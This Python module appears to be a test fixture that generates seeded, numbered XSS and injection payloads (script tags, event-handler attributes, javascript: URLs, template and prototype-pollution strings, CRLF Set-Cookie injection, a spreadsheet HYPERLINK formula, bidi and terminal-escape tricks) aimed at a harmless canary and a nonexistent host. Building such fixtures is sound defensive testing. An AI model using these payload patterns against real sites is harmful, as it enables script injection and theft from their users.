"""Hostile texts: whatever a model or a tool may have written so that a page runs it, asks for it, or misreads it.

Each bears its number. One that is run sets `window.canary`, one that is fetched asks a host that is not there, and one
that is only shown can be found in the page by its mark.
"""

from collections.abc import Iterator
from itertools import product
from random import Random

ELSEWHERE = "elsewhere.invalid"

RUN = "window.canary={number}"
FETCH = f"//{ELSEWHERE}/{{number}}"

_ELEMENTS = (
    "<script>{run}</script>",
    "<script src={fetch}></script>",
    "<img src=x onerror={run}>",
    "<img src={fetch}>",
    "<img srcset='{fetch} 1x'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='{fetch}#x'/></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.canary={number}</script>'></iframe>",
    "<object data={fetch}></object>",
    "<embed src={fetch}>",
    "<link rel=stylesheet href={fetch}>",
    "<link rel=prefetch href={fetch}>",
    "<base href={fetch}/>",
    "<meta http-equiv=refresh content='0;url={fetch}'>",
    "<style>@import '{fetch}';</style>",
    "<div style='background:url({fetch})'>x</div>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<a href=javascript:{run}>x</a>",
    "<a ping={fetch} href={fetch}>x</a>",
    "<form action={fetch}><button autofocus>x</button></form>",
    "<marquee onstart={run}>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<x contenteditable onblur={run} tabindex=1 autofocus>x</x>",
)
_TEXTS = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "`${{{run}}}`",
    "');{run};//",
    '";{run};//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;img src=x onerror={run}&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "=HYPERLINK('http:{fetch}')",
    "[x](javascript:{run})",
    "![x](http:{fetch})",
    "../../{fetch}?journal=other",
    "?journal=other&entry=1#{run}",
    "__proto__",
    "constructor",
    '{{"__proto__":{{"canary":{number}}}}}',
    "\r\nSet-Cookie: canary={number}",
    "\nevent: caught_up\nid: 999999\ndata: {{}}\n\n",
    "\u202egnp.exe\u202c\u2066",
    "\u001b[31m\u001b]8;;http:{fetch}\u0007",
    "\ufffe\uffff\U0010ffff\u200b",
    "x" * 400,
    "word " * 60,
)
_BREAKS = ("", '">', "'>", "</script>", "</title></textarea>", "-->", "]]>", "</style>", "\u2028", " \t\n")
_WRAPS = ("{}", "{} ", "\n{}", "before {} after", "{}<!--", "<b>{}</b>")


def payloads(amount: int, seed: str) -> Iterator[str]:
    """So many different ones, the same for each seed. What they are made of is spread evenly over them."""
    made = list(product(_BREAKS, _WRAPS, (*_ELEMENTS, *_TEXTS)))
    Random(seed).shuffle(made)
    for number in range(amount):
        before, wrap, payload = made[number % len(made)]
        run, fetch = RUN.format(number=number), FETCH.format(number=number)
        text = wrap.format(before + payload.format(number=number, run=run, fetch=fetch))
        yield mark(number) + text if number % 2 else text + mark(number)


def mark(number: int) -> str:
    """What is found in the page of a payload that is shown as text."""
    return f"mark{number:05d}k"
